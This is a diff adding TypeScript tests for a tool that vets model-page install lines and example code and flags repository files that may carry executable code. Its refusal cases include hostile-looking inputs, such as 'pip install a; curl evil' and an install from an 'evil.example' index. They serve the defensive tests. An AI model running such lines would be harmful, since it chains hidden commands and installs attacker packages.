@@ -1,0 +1,115 @@
+import type { ModelRecord } from "@vitrine/model";
+import { describe, expect, it } from "vitest";
+import { installationOf } from "./installLine.ts";
+import { planFor } from "./plan.ts";
+import { foreignCode } from "./trust.ts";
+
+const model = (fields: Partial<ModelRecord>): ModelRecord => ({ id: "acme/demo", tags: ["safetensors"], ...fields });
+const CLASSIFIER = model({ library_name: "transformers", pipeline_tag: "text-classification" });
+
+describe("the plan of a check", () => {
+	it("is the install line and the Python code of the page, as printed", () => {
+		const plan = planFor(CLASSIFIER);
+		expect(plan).toMatchObject({
+			library: "transformers",
+			install: "pip install transformers torch",
+			packages: ["transformers", "torch"],
+		});
+		if ("problem" in plan) throw new Error(plan.problem);
+		expect(plan.blocks.map(({ problem }) => problem)).toEqual(plan.blocks.map(() => undefined));
+		expect(plan.blocks[0]?.text).toContain('model="acme/demo"');
+	});
+
+	it("leaves out code that reads another host or a file of the reader, with the reason", () => {
+		const image = planFor(model({ library_name: "transformers", pipeline_tag: "image-classification" }));
+		if ("problem" in image) throw new Error(image.problem);
+		expect(image.blocks[0]?.problem).toMatch(/^It reads https:\/\/\S+, and a check has no network\.$/);
+		const sound = planFor(
+			model({ library_name: "speechbrain", config: { speechbrain: { speechbrain_interface: "EncoderASR" } } }),
+		);
+		expect(sound, JSON.stringify(sound)).toMatchObject({
+			blocks: [{ problem: "It reads audio.wav, a file of the reader." }],
+		});
+	});
+
+	it("has code that only writes a file", () => {
+		const painter = model({ library_name: "diffusers", tags: ["diffusers"], pipeline_tag: "text-to-image" });
+		const plan = planFor(painter, undefined, true);
+		expect(plan).toMatchObject({ blocks: [{ text: expect.stringContaining('.save("image.png")') }] });
+		expect(plan).not.toHaveProperty("blocks.0.problem");
+		expect(planFor(painter, undefined, false)).toHaveProperty("blocks.0.problem", expect.stringMatching(/NVIDIA GPU/));
+	});
+
+	it("is for another library where one is named, or says which there are", () => {
+		expect(planFor(CLASSIFIER, "transformers")).toMatchObject({ library: "transformers" });
+		expect(planFor(CLASSIFIER, "timm")).toEqual({ problem: "its page has no code for timm; it has transformers" });
+		expect(planFor({ id: "acme/files", tags: [] })).toHaveProperty("problem");
+		expect(
+			planFor(model({ library_name: "transformers.js", tags: ["transformers.js", "onnx"], pipeline_tag: "fill-mask" })),
+		).toHaveProperty("problem");
+	});
+});
+
+describe("an install line", () => {
+	it.each([
+		["pip install transformers torch", ["transformers", "torch"]],
+		["pip install 'imageio[ffmpeg]' a==1.2", ["imageio[ffmpeg]", "a==1.2"]],
+	])("is read: %s", (line, packages) => {
+		expect(installationOf(line)).toEqual({ packages });
+	});
+
+	it.each([
+		["git clone https://github.com/a/b\ncd b\npip install -e .", /more than pip/],
+		["pip install git+https://github.com/a/b", /more than packages of the registry/],
+		["pip install -r requirements.txt", /more than packages of the registry/],
+		["pip install --index-url=https://evil.example a", /more than packages of the registry/],
+		["pip install a; curl evil", /more than packages of the registry/],
+		["", /no install line/],
+	])("is refused: %j", (line, problem) => {
+		expect(installationOf(line)).toEqual({ problem: expect.stringMatching(problem) });
+	});
+});
+
+describe("code in a repository", () => {
+	it("is not in formats that hold only data", () => {
+		const files = [
+			"model.safetensors",
+			"a/config.json",
+			"README.md",
+			"LICENSE",
+			"tokenizer.model",
+			"x.gguf",
+			"chat_template.jinja",
+			".gitattributes",
+		];
+		expect(foreignCode(files, ["model = load()"])).toBeUndefined();
+	});
+
+	it.each([
+		"pytorch_model.bin",
+		"model.pt",
+		"model.pkl",
+		"m.joblib",
+		"model.skops",
+		"modeling_x.py",
+		"hyperparams.yaml",
+		"x.keras",
+		"x.SO",
+		"no-format.xyz",
+		"model.safetensors.exe",
+		"weights",
+	])("may be in %s", (file) => {
+		expect(foreignCode(["config.json", file], [])).toBe(`these files may contain code: ${file}`);
+	});
+
+	it("may be run by the printed code", () => {
+		expect(foreignCode(["config.json"], ["AutoModel.from_pretrained(x, trust_remote_code=True)"])).toMatch(
+			/trust_remote_code/,
+		);
+		expect(foreignCode(["config.json"], ["skops.io.load(path, trusted=unknown_types)"])).toMatch(/trusted=/);
+	});
+
+	it("is named for a few files and counted for others", () => {
+		expect(foreignCode(["1.py", "2.py", "3.py", "4.py", "5.py"], [])).toMatch(/: 1\.py, 2\.py, 3\.py and 2 more$/);
+	});
+});
